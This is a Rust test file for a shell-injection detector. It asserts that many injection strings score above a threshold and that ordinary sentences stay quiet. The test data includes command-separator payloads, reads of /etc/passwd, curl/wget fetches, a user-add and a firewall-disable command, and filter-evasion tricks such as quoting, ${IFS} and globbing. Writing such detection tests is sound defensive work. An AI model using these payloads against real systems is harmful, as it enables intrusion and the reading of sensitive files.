use super::super::tests::{quiet, score, score_named};
use super::super::{Class, THRESHOLD};

#[track_caller]
fn check(values: &[&str]) {
    for value in values {
        assert!(
            score(Class::Shell, value) >= THRESHOLD,
            "{value}: {}",
            score(Class::Shell, value)
        );
    }
}

#[test]
fn what_a_shell_expands_is_found() {
    for value in [
        "alias a=b",
        "alias 'l'=curl",
        "{,ip,a}",
        "{id,}",
        "~+",
        "ping`` 127.0.0.1",
        ";c$!at x",
        "\"\"p\"\"y\"\"t\"\"hon",
        "${SHELL} -c x",
        "ping.exe -n 3 127.0.0.1",
        ";.shell nc",
    ] {
        assert!(score(Class::Shell, value) >= 5, "{value}");
    }
    for value in [
        "an alias of a name",
        "{a, b}",
        "~5 km",
        "use {2,} of them",
        "\"He said \"\"hi\"\" to all\"",
        "export 5=five",
        "a;b.system.c",
    ] {
        quiet(value);
    }
}

#[test]
fn commands_behind_separators_are_found() {
    check(&[
        "; id",
        "x | cat /etc/hosts",
        "1 && whoami",
        "a;sleep 10",
        "`uname -a`",
        "x `5` `id`",
        r"\`a `id`",
        r"\\`a\\` `id`",
        "a\n```\n`id`\n;cat /etc/hosts",
        "$(curl http://h/x)",
        "a\nping -c 3 10.0.0.1",
        "& netsh firewall set opmode disable",
        "|| wget http://h/x -O /tmp/x",
    ]);
}

#[test]
fn commands_alone_are_found_with_arguments() {
    check(&[
        "cat /etc/passwd",
        "uname -a",
        "net user eve secret /add",
        "/bin/bash -c 'id'",
        "powershell -enc SQBFAFgA",
        "whoami",
    ]);
}

#[test]
fn what_hides_a_name_does_not_help() {
    check(&[
        "a;c''at /etc/passwd",
        "a;c\\at /etc/hosts",
        "cat${IFS}/x",
        "/b?n/c?t /etc/h?sts",
        "{nc,-e,sh}",
        "c{a,oun}t",
        "$((7))z -wrapper sh,-c,id .",
        "v='u';cu$v\\rl h.example",
        "a=wge;${a}t h.example",
        ";gcc10.1<<<void",
        "a;\n. shell nc -x",
        "1;.sh whoami",
        ";vim x +silent !id",
        ";vim x  silent\\ \\!id  wq",
        "a&bcdboot/r x",
        ";at 2:00 \"echo a\"",
        "dir c:",
        "{cat,/etc/hosts}",
        "a;/usr/bin/who$@ami -x",
    ]);
}

#[test]
fn sentences_and_signs_are_not() {
    for value in [
        "Salt & pepper; find more in our shop",
        "AT&T | Verizon",
        "ping 127.0.0.1",
        "First, run `ls` and then `cat` the file to see what is in it.",
        "Cut; print; send; done",
        "I love my cat | dog",
        "head of sales; more at ten",
        "kill the lights & sleep well",
        "a || b && c",
        "Go to the store.\nFind milk.\nCat food too.",
        ";environment",
        "fish &amp; chips &#59;&#32;more</b> &amp;find /x",
        "photo.{jpg,png}",
        "{a,b}",
        "src/**/*.ts",
        "a=1;b=2",
        "price=$5; name=x",
        "lunch; at 2:00 we go",
        "a.b;.c d",
        "python3.10 cmd",
        "and/or c: drive",
        "C:\\Users\\cat\\file.txt",
        "https://example.com/?a=1&id=2&sort=name",
    ] {
        quiet(value);
    }
}

#[test]
fn a_word_behind_a_program_counts_where_the_name_says_command() {
    for (name, expected) in [
        ("cmd", true),
        ("exec", true),
        ("title", false),
        ("commander", false),
    ] {
        let score = score_named(Class::Shell, name, "python3.10 setup");
        assert_eq!(score >= THRESHOLD, expected, "{name}");
    }
    assert!(score_named(Class::Shell, "cmd", "go to the store") < THRESHOLD);
}

#[test]
fn programs_that_run_others_are_found() {
    for value in [
        "time bsdtar x",
        "nohup wget",
        "echo | $x",
        "echo a| `id`",
        ";ex a \\!id",
    ] {
        assert!(score(Class::Shell, value) >= THRESHOLD, "{value}");
    }
    for value in [
        "time table",
        "\\curl\\bin",
        "!-1",
        "!-wow!-",
        "exec summary",
        "time machine curl",
        "env variables",
        "echo | reverb",
        "; ex machina + more",
        "the time bash was new to all of us here",
    ] {
        quiet(value);
    }
}
